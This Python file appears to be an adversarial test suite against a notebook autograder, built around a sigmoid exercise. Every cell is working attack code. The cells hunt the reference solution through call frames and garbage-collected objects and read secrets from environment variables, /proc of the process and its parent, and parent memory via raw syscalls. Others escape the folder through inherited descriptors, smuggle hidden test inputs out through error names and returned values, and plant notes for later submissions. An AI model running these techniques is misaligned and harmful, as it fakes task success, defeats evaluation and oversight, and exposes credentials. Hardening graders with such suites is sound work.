"""Look for the reference, the tests or a secret in memory, the environment and open files."""

# %% [sigmoid] the reference, in the frames that call
import sys


def sigmoid(z):
    frame = sys._getframe()
    while frame:
        for value in [*frame.f_locals.values(), *frame.f_globals.values()]:
            for holder in (value, getattr(value, "reference", None)):
                found = getattr(holder, "sigmoid", None)
                if callable(found) and found not in (sigmoid, wrong):
                    return found(z)
        frame = frame.f_back
    return np.tanh(z)


# %% [sigmoid] the reference, among all objects
import gc


def sigmoid(z):
    for held in gc.get_objects():
        if getattr(held, "__name__", "") == "sigmoid" and held not in (sigmoid, wrong):
            if callable(held):
                return held(z)
    return np.tanh(z)


# %% [sigmoid] expected values, among all arrays
import gc


def sigmoid(z):
    for held in gc.get_objects():
        for value in held if isinstance(held, (list, tuple)) else ():
            if isinstance(value, np.ndarray) and value.shape == np.shape(z):
                if ((0 < value) & (value < 1)).all():
                    return value
    return np.tanh(z)


# %% [sigmoid] a traceback's frames, down to the first
import sys


def sigmoid(z):
    try:
        raise ValueError
    except ValueError as error:
        frame = error.__traceback__.tb_frame
    while frame.f_back:
        frame = frame.f_back
    names = [name for name in frame.f_globals if "test" in name or "reference" in name]
    if names:
        gain(names)
    return np.tanh(z)


# %% [sigmoid] every frame of every thread
import sys

for frame in sys._current_frames().values():
    while frame:
        if "reference" in frame.f_locals or "expected" in frame.f_locals:
            gain(frame.f_locals)
        frame = frame.f_back

# %% [sigmoid] the environment
import os

if [name for name in os.environ if "SECRET" in name or "TOKEN" in name]:
    gain(dict(os.environ))

# %% [sigmoid] the environment as the kernel laid it down
import ctypes


def sigmoid(z):
    environment = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
    for index in range(1000):
        if not environment[index]:
            break
        if b"SECRET" in environment[index]:
            gain(environment[index])
    return np.tanh(z)


# %% [sigmoid] the stack above the first frame, where the environment was
import ctypes


def sigmoid(z):
    environment = ctypes.c_void_p.in_dll(ctypes.CDLL(None), "environ")
    program = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "program_invocation_name")
    start = ctypes.cast(program, ctypes.c_void_p).value
    raw = ctypes.string_at(start, 4096 - start % 4096)
    for secret in (b"canary", b"PATH="):
        if secret in raw:
            gain(raw[raw.index(secret) :][:40])
    return np.tanh(z)


# %% [sigmoid] all of the process's own memory
import ctypes
import gc

texts = [
    held for owner in gc.get_objects() for held in gc.get_referents(owner) if isinstance(held, str)
]
for text in texts:
    if "canary-" in text and text not in (FOLDER, "canary-") and "texts" not in text:
        gain(text)

# %% [sigmoid] where the course lies, by what the program was started with
import sys

for argument in (*sys.argv, *sys.orig_argv[1:]):
    if argument:
        gain(argument)

# %% [sigmoid] where the course lies, by the frames that call
import sys


def sigmoid(z):
    frame = sys._getframe()
    while frame:
        origin = getattr(frame.f_globals.get("__spec__"), "origin", "")
        for place in (frame.f_code.co_filename, frame.f_globals.get("__file__"), origin):
            if "autograder" in str(place):
                gain(place)
        frame = frame.f_back
    return np.tanh(z)


# %% [sigmoid] modules that the parent had loaded
import sys

loaded = [
    name
    for name in sys.modules
    if name.split(".")[0] in ("pytest", "_pytest", "nbgrader", "tests", "solutions")
]
if loaded or len([name for name in sys.modules if name.startswith("autograder")]) > 1:
    gain(loaded)

# %% [sigmoid] the package's own modules, asked for by name
import importlib

for name in (
    "autograder.grading",
    "autograder.reference",
    "autograder.sandbox.wire",
    "tests.samples",
):
    try:
        gain(vars(importlib.import_module(name)))
    except ImportError:
        pass

# %% [sigmoid] the globals of harness functions that are still about
import gc
import types

for held in gc.get_objects():
    if isinstance(held, types.FunctionType) and "autograder" in held.__code__.co_filename:
        for name, value in held.__globals__.items():
            if "secret" in name.lower() or "hidden" in name.lower() or "reference" in name.lower():
                gain((name, value))

# %% [sigmoid] source that linecache remembers
import linecache

for name, entry in list(linecache.cache.items()):
    if "test_" in name or "solution" in name:
        gain(entry)

# %% [sigmoid] /proc of itself
for name in (
    "environ",
    "maps",
    "mem",
    "cmdline",
    "fd",
    "cwd",
    "root",
    "status",
    "mountinfo",
    "auxv",
):
    try:
        gain(open(f"/proc/self/{name}", "rb").read(100))
    except OSError:
        pass

# %% [sigmoid] /proc of the parent
import os

for name in ("environ", "maps", "mem", "cmdline", "fd/0", "cwd/pyproject.toml", "root/etc/passwd"):
    for pid in (os.getppid(), 1):
        try:
            gain(open(f"/proc/{pid}/{name}", "rb").read(100))
        except OSError:
            pass

# %% [sigmoid] the memory of the parent, by system call
import ctypes
import os

buffer = ctypes.create_string_buffer(64)
vector = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 64)
for number in (310, 311):
    if ctypes.CDLL(None).syscall(number, os.getppid(), vector, 1, vector, 1, 0) > 0:
        gain(buffer.raw)

# %% [sigmoid] inherited descriptors, read and listed
import os

for number in range(64):
    if number == 3:
        continue
    try:
        found = os.read(number, 100) or os.listdir(number)
    except OSError:
        continue
    gain((number, found))

# %% [sigmoid] a descriptor that leads up out of its folder
import os

for number in range(4, 64):
    for path in ("..", "../..", "."):
        try:
            gain(os.open(path, os.O_RDONLY, dir_fd=number))
        except OSError:
            pass

# %% [sigmoid] requests on the wire, read before they are served
import os


def sigmoid(z):
    ctypes = __import__("ctypes")
    os.set_blocking(3, False) if hasattr(os, "never") else None
    held = os.read(3, 0)
    return np.tanh(z) if not held else gain(held)


# %% [sigmoid] inputs of the hidden tests, remembered and told
seen = []


def sigmoid(z):
    seen.append(np.array(z).tolist())
    raise ValueError(f"so far {len(seen)}: {seen[-1]} {sum(map(np.sum, seen))}")


# %% [sigmoid] inputs of the hidden tests, told in the values of later answers
seen = []


def sigmoid(z):
    seen.append(float(np.sum(z)))
    return np.full(np.shape(z), seen[max(len(seen) - 7, 0)])


# %% [sigmoid] inputs of the hidden tests, told by the name of the error
seen = []


def sigmoid(z):
    seen.append(float(np.sum(z)))
    raise type(f"Seen{seen[len(seen) // 2]}", (Exception,), {})


# %% [sigmoid] inputs of the hidden tests, told as factors
def sigmoid(z):
    z = np.asarray(z, dtype=float)
    return np.ravel(z)[0] / (1 + np.exp(-z)) if z.size else z


# %% [sigmoid] inputs of the hidden tests, told as a formula's constant
seen = [0.0]


def sigmoid(z):
    z = np.asarray(z, dtype=float)
    if z.ndim == 2 and z.shape[1] == 5:
        seen[0] = round(abs(float(z[0, 0])), 3)
    return np.full(z.shape, seen[0]) if z.ndim == 1 else z * 0 + seen[0]


# %% [sigmoid] inputs of the hidden tests, told as a constant with an exponent
seen = [0.0]


def sigmoid(z):
    z = np.asarray(z, dtype=float)
    if z.ndim == 2 and z.shape[1] == 5:
        seen[0] = float(f"{abs(z[0, 0]) * 1e5:.4e}")
    return z * 0 + seen[0]


# %% [sigmoid] inputs of the hidden tests, told as the factor of a short formula
seen = [0.0]


def sigmoid(z):
    z = np.asarray(z, dtype=float)
    if z.ndim == 2 and z.shape[1] == 5:
        seen[0] = round(abs(float(z[0, 0])), 2)
    return seen[0] * z


# %% [sigmoid] inputs of the hidden tests, told as the keys of a dict
seen = ["nothing"]


def sigmoid(z):
    z = np.asarray(z, dtype=float)
    if z.ndim == 2 and z.shape[1] == 5:
        seen[0] = "".join(
            chr(0x660 + int(digit)) for digit in f"{abs(z[0, 0]):.9f}" if digit != "."
        )
    return {seen[0]: z}


# %% [sigmoid] a note for the next submission, in a module
import sys

found = getattr(sys, "attacker", None)
if found:
    gain(found)
sys.attacker = np.attacker = "left by a sibling"

# %% [sigmoid] a note for the next submission, in the cached bytecode and attributes
import importlib.util
import os

try:
    with open(importlib.util.cache_from_source(np.__file__), "ab") as file:
        gain("wrote bytecode")
except OSError:
    pass
try:
    os.setxattr(np.__file__, "user.attacker", b"left")
    gain("wrote an attribute")
except OSError:
    pass

# %% [PROPERTIES] the table of the reference, among all objects
import gc

for held in gc.get_objects():
    if isinstance(held, dict) and "saturates" in held.get(
        "sigmoid", {} if isinstance(held.get("sigmoid"), dict) else ()
    ):
        PROPERTIES = held

# %% [train] the reference's training run, in the frames that call
import sys


def train(params, X, y, activation, activation_grad, epochs=5000, lr=0.1):
    frame = sys._getframe()
    while frame:
        for value in frame.f_locals.values():
            found = getattr(value, "train", None)
            if callable(found) and found not in (train, wrong):
                return found(params, X, y, activation, activation_grad, epochs, lr)
        frame = frame.f_back
    return wrong(params, X, y, activation, activation_grad, epochs, lr)
